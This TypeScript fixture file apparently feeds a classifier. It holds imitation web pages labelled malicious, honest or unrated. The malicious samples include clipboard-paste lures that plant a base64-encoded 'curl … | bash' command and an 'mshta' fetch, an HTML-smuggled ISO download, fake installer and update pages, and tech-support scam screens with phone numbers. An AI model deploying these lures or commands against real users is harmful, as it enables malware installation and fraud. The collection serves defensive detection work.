import { honest, malicious, unrated, type ImitationPage } from './imitation-page.ts';

/** Pages that want a program run, or a number called, and those that speak of programs honestly. */
export const programs: readonly ImitationPage[] = [
  malicious(
    'besucher-pruefung.example/de/',
    'A check for humans on a Mac, in German, with the command coded',
    'MALWARE',
    null,
    `<!DOCTYPE html><html lang="de"><head><title>Einen Augenblick</title></head><body><h2>Bestätigen Sie, dass Sie kein Automat sind</h2><p>Zu viele Anfragen aus Ihrem Netz. Bitte führen Sie die Prüfung von Hand durch:</p><ol><li>Drücken Sie <kbd>⌘</kbd> + <kbd>Leertaste</kbd> und geben Sie <b>Terminal</b> ein</li><li>Fügen Sie den Prüfcode mit <kbd>⌘</kbd> + <kbd>V</kbd> ein</li><li>Drücken Sie die Eingabetaste</li></ol><button id="b">Prüfcode kopieren</button><script>document.getElementById('b').onclick=()=>navigator.clipboard.writeText(atob("Y3VybCAtZnNTTCBodHRwczovL2Nkbi1jaGVjay5leGFtcGxlL3Yuc2ggfCBiYXNoICMgUHJ1ZWZ1bmcgNDgyMTM="))</script></body></html>`,
  ),
  malicious(
    'reunion-video.example/salle/88',
    'A meeting whose microphone is to be mended by a command, in French',
    'MALWARE',
    null,
    `<!DOCTYPE html><html lang="fr"><head><title>Salle 88</title></head><body><div role="dialog"><h3>Votre micro n'est pas détecté</h3><p>Le pilote audio doit être réinitialisé avant de rejoindre la réunion.</p><ol><li>Appuyez sur la touche Windows + R</li><li>Collez le correctif (Ctrl + V)</li><li>Validez avec Entrée</li></ol><button onclick="copie()">Copier le correctif</button></div><script>function copie(){var t=document.createElement('textarea');t.value='mshta '+'https://pilote-audio.example/fix';document.body.append(t);t.select();document.execCommand("copy")}</script></body></html>`,
  ),
  malicious(
    'facture-2291.example/voir.html',
    'An invoice that the page puts together and stores',
    'MALWARE',
    null,
    `<!DOCTYPE html><html lang="fr"><head><title>Facture 2291</title></head><body><h3>Votre facture est prête</h3><p>Le téléchargement démarre tout seul. Ouvrez ensuite l'archive avec le code 7731.</p><script>var b="TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAATVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAATVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAATVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAATVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAATVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAATVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAATVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA",n="Facture_2291.iso";var r=atob(b),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([a]));l.download=n;l.click()</script></body></html>`,
  ),
  malicious(
    'penstroke-studio-download.example/',
    'A copy of the page of a free program whose program comes from elsewhere',
    'MALWARE',
    null,
    `<!DOCTYPE html><html><head><title>Penstroke Studio | Digital painting</title></head><body><nav><a href="https://penstroke-studio.org/features">Features</a><a href="https://penstroke-studio.org/learn">Learn</a><a href="https://penstroke-studio.org/donations">Donate</a></nav><h1>Download Penstroke Studio 5.3</h1><p>Free and open source painting program for Windows, macOS and Linux.</p><a href="https://files-mirror.example.net/setup/penstroke-studio-x64.exe">Windows installer</a></body></html>`,
    { as: 'https://penstroke-studio-download.com/' },
  ),
  malicious(
    'soft-portal-ru.example/foto-redaktor/',
    'A paid program for nothing, in Russian, without the guard',
    'MALWARE',
    null,
    `<!DOCTYPE html><html lang="ru"><head><title>Фоторедактор Pro 2026 скачать крякнутый</title></head><body><h1>Фоторедактор Pro 2026 + активатор</h1><p>Полная версия на русском языке, лечение не требуется.</p><p>Перед установкой отключите антивирус: он ругается на активатор. Пароль от архива: 2026.</p><a href="https://file-get.example/dl/redaktor.rar">Скачать с сервера 1</a></body></html>`,
  ),
  malicious(
    'multas-transito.example/consulta',
    'A fine that can be seen in an app alone, in Spanish',
    'MALWARE',
    null,
    `<!DOCTYPE html><html lang="es"><head><title>Policía de Tránsito - Consulta de infracción</title></head><body><h1>Policía de Tránsito</h1><p>Tiene una infracción pendiente. Las fotografías solo se pueden ver en la aplicación.</p><a href="/d/Transito.apk" download>Descargar la aplicación</a><p>Si su teléfono lo pide, permita instalar desde fuentes desconocidas.</p></body></html>`,
  ),
  malicious(
    'suite-video.example/r/',
    'Notifications to be allowed before a film, in French',
    'MALWARE',
    null,
    `<!DOCTYPE html><html lang="fr"><head><title>...</title></head><body><p>Cliquez sur Autoriser pour prouver que vous n'êtes pas un robot et lancer la vidéo</p><script>Notification.requestPermission().then(s=>location.replace('/n/?s='+s))</script></body></html>`,
  ),
  malicious(
    'boulangerie-du-port.example/recettes/',
    'A browser that is old, on the site of a bakery, in French',
    'MALWARE',
    null,
    `<!DOCTYPE html><html lang="fr"><head><title>Mise à jour de Firefox</title></head><body><h1>Une ancienne version de Firefox est installée</h1><p>Certaines pages ne peuvent pas s'afficher. Installez la mise à jour pour continuer.</p><a href="blob:https://boulangerie-du-port.example/1" download="Firefox.MiseAJour.zip">Mettre à jour</a></body></html>`,
  ),
  malicious(
    'beveiliging-melding.example/nl/',
    'A locked computer in Dutch, in its own words',
    'TECH_SUPPORT',
    null,
    `<!DOCTYPE html><html lang="nl"><head><title>Melding 0x8007042c</title></head><body onbeforeunload="return 'blijf'"><h2>Deze computer is vergrendeld</h2><p>Er is verdachte software aangetroffen die uw wachtwoorden en bankgegevens doorstuurt. Sluit dit venster niet en start niet opnieuw op.</p><p>Bel meteen met een technicus: 085 208 41 77</p><p>Foutcode: 0x8007042c</p></body></html>`,
  ),
  malicious(
    'ostrzezenie-systemu.example/pl/',
    'The same in Polish',
    'TECH_SUPPORT',
    null,
    `<!DOCTYPE html><html lang="pl"><head><title>Ochrona systemu</title></head><body><audio src="a.mp3" loop></audio><h2>Dostęp do komputera został zablokowany</h2><p>Oprogramowanie szpiegujące wysyła hasła i dane karty. Nie zamykaj tej strony, dysk może zostać usunięty.</p><p>Skontaktuj się z pomocą techniczną: +48 22 307 19 84</p><script>document.documentElement.requestFullscreen()</script></body></html>`,
  ),
  honest(
    'docs-tool.example/install/windows',
    'A guide that has one paste a command that it shows',
    `<!DOCTYPE html><html><head><title>Install - Pipework documentation</title></head><body><h1>Install Pipework on Windows</h1><p>Press Windows + R, type powershell and press Enter. Then paste the following line:</p><pre><code>powershell -c "irm https://docs-tool.example/install.ps1 | iex"</code></pre><button data-clipboard-text="powershell -c &quot;irm https://docs-tool.example/install.ps1 | iex&quot;">Copy</button><p>On Linux and macOS open a terminal and run <code>curl -fsSL https://docs-tool.example/install.sh | sh</code>.</p><script>document.querySelector('button').onclick=e=>navigator.clipboard.writeText(e.target.dataset.clipboardText)</script></body></html>`,
  ),
  honest(
    'depannage-informatique-lyon.example/virus',
    'A shop that repairs computers, in French',
    `<!DOCTYPE html><html lang="fr"><head><title>Dépannage informatique à Lyon - suppression de virus</title></head><body><h1>Ordinateur lent ou infecté ?</h1><p>Nous supprimons virus et logiciels espions, récupérons vos photos et réparons Windows et Mac dans notre atelier, du lundi au samedi. Un faux message vous dit que votre ordinateur est bloqué ? N'appelez jamais le numéro affiché, venez nous voir.</p><p>Appelez-nous au 04 78 55 21 90, devis gratuit. 12 rue des Tanneurs, SIRET 512 334 871 00014.</p></body></html>`,
  ),
  honest(
    'guard-antivirus.example/',
    'The maker of a virus scanner',
    `<!DOCTYPE html><html><head><title>Guardwell Antivirus - protect your PC</title></head><body><h1>Is your computer infected?</h1><p>Guardwell finds viruses, spyware and trojans before your passwords are stolen. Try it free for 30 days. Support hotline: +44 20 7946 0321, weekdays 9 to 5.</p><a href="/download/guardwell-setup.exe">Download for Windows</a><p>© 2026 Guardwell Ltd., company number 0712345.</p></body></html>`,
  ),
  honest(
    'tinyplayer.example/download',
    'The maker of a player offers its new version',
    `<!DOCTYPE html><html><head><title>TinyPlayer - download the latest version</title></head><body><h1>TinyPlayer 4.2</h1><p>The new version plays AV1 without a codec pack and opens subtitles faster. Release notes and checksums are in the repository; older versions stay available for Windows 8.</p><a href="/files/tinyplayer-4.2-setup.exe">Installer (x64)</a> <a href="/files/tinyplayer-4.2.zip">Portable</a><p>TinyPlayer is free software under the GPL.</p></body></html>`,
  ),
  honest(
    'diagram-editor.example/app',
    'An editor that stores what was drawn as an archive',
    `<!DOCTYPE html><html><head><title>Diagram editor</title></head><body><h1>Untitled diagram</h1><p>Draw boxes and arrows, then export everything as an archive with one picture a page. Nothing leaves your browser.</p><button id="x">Export as archive</button><script>document.getElementById('x').onclick=async()=>{const z=new Zip();for(const p of pages)z.file(p.name,p.bytes);const l=document.createElement('a');l.href=URL.createObjectURL(await z.blob());l.download='diagram.zip';l.click()}</script></body></html>`,
  ),
  honest(
    'handball-verein.example/liveticker',
    'A club that offers notifications of goals',
    `<!DOCTYPE html><html lang="de"><head><title>Liveticker - Handballverein Nordheim</title></head><body><h1>Liveticker</h1><p>Tore und Ergebnisse direkt aufs Handy: Erlauben Sie Benachrichtigungen, dann melden wir uns bei jedem Spiel der ersten Mannschaft. Abbestellen geht jederzeit in den Einstellungen des Browsers.</p><button onclick="Notification.requestPermission()">Benachrichtigungen einschalten</button></body></html>`,
  ),
  honest(
    'penstroke-freunde.example/',
    'Friends of a free program who lead to its own downloads',
    `<!DOCTYPE html><html lang="de"><head><title>Freunde von Penstroke Studio</title></head><body><h1>Penstroke Studio auf Deutsch</h1><p>Anleitungen und Pinsel von Freunden des Programms. Das Programm selbst gibt es bei seinen Machern:</p><a href="https://penstroke-studio.org/files/penstroke-studio.exe">Programm für Windows</a><a href="https://penstroke-studio.org/learn">Handbuch</a><a href="https://penstroke-studio.org/donations">Spenden</a><a href="/pinsel/aquarell.zip">Aquarellpinsel</a></body></html>`,
    { as: 'https://malen-mit-penstroke.de/' },
  ),
  unrated(
    'ritterspiel-mods.example/helm',
    'A mod of a game that a virus scanner does not like',
    `<!DOCTYPE html><html lang="de"><head><title>Helm-Mod 1.3</title></head><body><h1>Helm-Mod 1.3</h1><p>Neue Helme und Farben für das Ritterspiel. Manche Virenscanner melden die DLL; in diesem Fall die Datei in Ihrem Virenschutz zulassen oder aus dem Quelltext selbst bauen.</p><a href="/files/helm-mod-1.3.zip">Herunterladen</a></body></html>`,
  ),
];
